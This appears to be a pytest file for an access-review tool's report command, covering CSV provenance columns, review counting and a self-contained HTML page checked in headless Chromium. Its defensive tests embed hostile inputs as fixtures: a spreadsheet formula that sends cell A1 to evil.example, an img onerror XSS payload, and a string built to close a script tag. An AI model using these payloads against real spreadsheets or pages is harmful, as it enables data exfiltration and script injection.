"""`access report`: everyone's access with provenance, as CSV and as one self-contained HTML page,
the page checked in a real headless browser (Debian's chromium) when one is installed.
"""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from reconciler import sandbox
from reconciler.vendors import VENDORS
from tests.test_gate import JUDY_HARBOR, World, adopted, replace_text, world

__all__ = ["adopted", "world"]


def browser() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        pytest.skip(
            "no headless browser: install Debian's chromium (`apt-get install -y chromium`; .ci/run does)"
        )
    return found


def dump_dom(page: Path, fragment: str = "") -> str:
    result = subprocess.run(
        [browser(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--virtual-time-budget=5000", "--dump-dom", f"{page.resolve().as_uri()}{fragment}"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


def table_rows(dom: str) -> list[str]:
    body = dom.split('<tbody id="body">', 1)[1].split("</tbody>", 1)[0]
    return re.findall(r"<tr[^>]*>(.*?)</tr>", body)


@pytest.fixture
def reviewed_world(world: World) -> World:
    """judy's Harbor Tower line landed by an approved squash; then the vendors drift again."""
    number = world.open_pull("jalvarez", JUDY_HARBOR, branch="judy")
    world.approve(number, "cokafor")
    world.squash(number, branch="judy")
    assert world.apply().code == 0
    sandbox.reset(world.path, VENDORS)  # bob's hand-made Environment Admin is back, and more drift
    return world


def test_report_csv_has_provenance_per_grant(reviewed_world: World) -> None:
    result = reviewed_world.access("report", "--sandbox", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    judy = [r for r in rows if r["person"] == "judy" and r["resource"] == "Harbor Tower"]
    assert {(r["entitlement"], r["status"]) for r in judy} == {
        ("Project Engineer", "pending"),  # the reset vendor lost it: the next apply grants it again
        ("Project Manager", "not in the YAML"),  # what the vendor has instead
    }
    judy = [r for r in judy if r["entitlement"] == "Project Engineer"]
    assert judy[0]["pull_request"] == "1" and judy[0]["requested_by"] == "jalvarez"
    assert judy[0]["approved_by"] == "cokafor" and judy[0]["reviewed"] == "yes" and judy[0]["approved_at"]
    assert judy[0]["applied_at"] and judy[0]["source"].startswith("access/procore.yaml:")
    drift = [r for r in rows if r["person"] == "bob" and r["resource"] == "Environment Admin"]
    assert [(d["status"], d["reviewed"], d["privileged"]) for d in drift] == [
        ("not in the YAML", "no", "admin-roles")
    ]
    grace = [r for r in rows if r["person"] == "grace" and r["resource"] == "Environment Admin"]
    assert grace[0]["privileged"] == "admin-roles" and grace[0]["expires"] == "2026-12-15"
    assert grace[0]["expiring"] == "yes"  # within policies' 30 days of ACCESS_TODAY 2026-11-23
    assert grace[0]["reviewed"] == "no"  # its line was pushed before the gate knew any pull request
    people = {r["person"] for r in rows if r["person"]}
    assert {"alice", "bob", "judy", "oscar", "heidi"} <= people


def test_report_html_is_self_contained_and_works_in_a_browser(reviewed_world: World, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    result = reviewed_world.access("report", "--sandbox", "--out", str(page))
    assert result.code == 0, result.err
    text = page.read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text), "no external assets"
    assert "<link" not in text
    csv_rows = list(csv.DictReader(io.StringIO(reviewed_world.access("report", "--sandbox").out)))

    dom = dump_dom(page)
    rows = table_rows(dom)
    assert len(rows) == min(200, len(csv_rows))
    assert f"of {len(csv_rows)} grants" in dom
    assert '<table class="summary">' in dom and "<td>procore</td>" in dom

    judy = table_rows(dump_dom(page, "#q=jalvarez&vendor=procore&status=pending"))
    assert len(judy) == 1 and "Harbor Tower" in judy[0] and "#1" in judy[0] and "cokafor" in judy[0]

    drift = table_rows(dump_dom(page, "#status=not%20in%20the%20YAML&priv=1"))
    assert (
        len(drift) == 1
        and "Environment Admin" in drift[0]
        and "s-drift" in dom_row(page, "#status=not%20in%20the%20YAML&priv=1")
    )

    ordered = table_rows(dump_dom(page, "#vendor=pingone&sort=person&dir=desc"))
    people = [re.findall(r"<td[^>]*>(.*?)</td>", r)[1] for r in ordered]
    assert people == sorted(people, reverse=True) and len(set(people)) > 3


def dom_row(page: Path, fragment: str) -> str:
    body = dump_dom(page, fragment).split('<tbody id="body">', 1)[1]
    return body.split("</tbody>", 1)[0]


def test_report_format_follows_the_file_name_and_bad_formats_are_one_line(
    world: World, tmp_path: Path
) -> None:
    out = tmp_path / "access.csv"
    assert world.access("report", "--no-sync", "--out", str(out)).code == 0
    assert out.read_text(encoding="utf-8").startswith("vendor,tenant,person,")
    bad = world.access("report", "--no-sync", "--format", "pdf")
    assert bad.code == 1 and "--format: 'pdf' is not one of csv, html" in bad.err


VPN = "    VPN: [site-engineering, it-admins]"


def test_a_receivers_own_approval_never_counts_and_the_summary_counts_the_rows(
    world: World, tmp_path: Path
) -> None:
    """A team line approved by one of the team's members: reviewed for the others, not for them."""
    number = world.open_pull(
        "jalvarez", replace_text("access/pingone.yaml", VPN, VPN[:-1] + ", project-management]"), branch="vpn"
    )
    world.approve(number, "cokafor")  # carol, in project-management: she receives the VPN too
    world.squash(number, branch="vpn")

    result = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    vpn = {r["person"]: r for r in rows if r["resource"] == "VPN"}
    assert vpn["dan"]["pull_request"] == vpn["carol"]["pull_request"] == str(number)
    assert (vpn["dan"]["approved_by"], vpn["dan"]["reviewed"]) == ("cokafor", "yes")
    carol = vpn["carol"]
    assert (carol["approved_by"], carol["approved_at"], carol["reviewed"]) == ("", "", "no")
    # site-engineering's line changed in that pull too, but Alice's VPN did not: the ledger credits it
    # to no one in that pull request (it was in force at the apply point), whatever blame says.
    assert (vpn["alice"]["pull_request"], vpn["alice"]["approved_by"]) == ("", "")

    page = tmp_path / "report.html"
    assert world.access("report", "--sandbox", "--no-sync", "--out", str(page)).code == 0
    summary = page.read_text(encoding="utf-8").split('<table class="summary">', 1)[1].split("</table>", 1)[0]
    body = summary.split("<tbody>", 1)[1]
    cells = [re.findall(r"<td>(.*?)</td>", tr) for tr in re.findall(r"<tr>(.*?)</tr>", body)]
    for vendor, grants, people, privileged, expiring, unreviewed, drift, pending in cells:
        mine = [r for r in rows if r["vendor"] == vendor]
        assert (int(grants), int(people)) == (len(mine), len({r["principal"] for r in mine}))
        assert int(privileged) == sum(1 for r in mine if r["privileged"])
        assert int(expiring) == sum(1 for r in mine if r["expiring"] == "yes")
        assert int(unreviewed) == sum(1 for r in mine if r["reviewed"] == "no")
        assert (int(drift), int(pending)) == (0, 0)  # --no-sync: the YAML only
    assert sorted(c[0] for c in cells) == ["concur", "pingone", "procore"]


def test_csv_fields_with_commas_quotes_and_line_breaks_read_back_whole(world: World) -> None:
    reason = 'SEC-1042, "break glass"\nsee the runbook'
    quoted = reason.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    world.direct_push(replace_text("access/pingone.yaml", "reason: SEC-1042}", f'reason: "{quoted}"}}'))
    result = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    grace = [r for r in rows if r["person"] == "grace" and r["resource"] == "Environment Admin"]
    assert [r["reason"] for r in grace] == [reason]
    assert len({len(r) for r in rows}) == 1 and all(r["vendor"] for r in rows)  # no line split apart


def test_a_name_or_reason_a_spreadsheet_would_run_as_a_formula_is_written_as_text(world: World) -> None:
    """Names and reasons come from pull requests: opened in a spreadsheet, the report must not run
    them (the evidence pack's rule: a leading `'`), and the rest of the report is unchanged."""
    before = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    world.direct_push(
        replace_text("access/people.yaml", "name: Grace Lin,", f"name: {_yaml_string(formula)},")
    )
    world.direct_push(replace_text("access/pingone.yaml", "reason: SEC-1042}", 'reason: "@SUM(1+1)"}'))
    result = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    grace = [r for r in rows if r["person"] == "grace"]
    assert grace and {r["name"] for r in grace} == {"'" + formula}
    assert [r["reason"] for r in grace if r["resource"] == "Environment Admin"] == ["'@SUM(1+1)"]
    others = [r for r in rows if r["person"] != "grace"]
    assert others == [r for r in csv.DictReader(io.StringIO(before.out)) if r["person"] != "grace"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


# A pull request's text that would pass for markup: a fake approval with a ping, an image, a link, an
# image link, a table row of its own and a heading; the name would also end the page's data script.
FAKE = (
    "**approved by @glin-sec** <img src=x onerror=alert(1)> [click](https://evil.example) "
    "![x](https://evil.example/x.png) | fake | row |\n# Heading"
)
SCRIPT_BREAKER = "Grace </script><!--<script> Lin"


def _yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


@pytest.fixture
def hostile_world(world: World) -> World:
    """The security team's Identity Data Read Only line with FAKE as its reason, and SCRIPT_BREAKER as
    the name of grace (in that team)."""
    line = "security: environment"
    world.direct_push(
        replace_text(
            "access/pingone.yaml", line, f"security: {{scope: environment, reason: {_yaml_string(FAKE)}}}"
        )
    )
    world.direct_push(
        replace_text("access/people.yaml", "name: Grace Lin,", f"name: {_yaml_string(SCRIPT_BREAKER)},")
    )
    return world


def test_the_html_page_keeps_the_yamls_text_as_text(hostile_world: World, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    assert hostile_world.access("report", "--sandbox", "--no-sync", "--out", str(page)).code == 0
    text = page.read_text(encoding="utf-8")
    data = text.split('<script type="application/json" id="data">', 1)[1].split("</script>", 1)[0]
    assert "<" not in data and ">" not in data and "&" not in data, "no string can end or bend the script"

    dom = dump_dom(page, "#q=grace")
    body = dom.split('<tbody id="body">', 1)[1].split("</tbody>", 1)[0]
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)  # a reason may hold a line break
    assert rows, "the page still works: its data was read whole"
    assert not re.search(r"<(img|strong|a|script)\b", "".join(rows)), "the text made no element of its own"
    assert (len(re.findall(r"<img\b", dom)), len(re.findall(r"<h1\b", dom))) == (0, 1)  # the page's own h1
    cells = [html.unescape(c) for r in rows for c in re.findall(r"<td[^>]*>(.*?)</td>", r, re.S)]
    assert FAKE in cells and SCRIPT_BREAKER in cells, "the text is shown as it is written"
    head = dom.split('<tr id="head">', 1)[1].split("</tr>", 1)[0]
    assert {len(re.findall(r"<td\b", r)) for r in rows} == {head.count("<th")}, "no cell of its own"
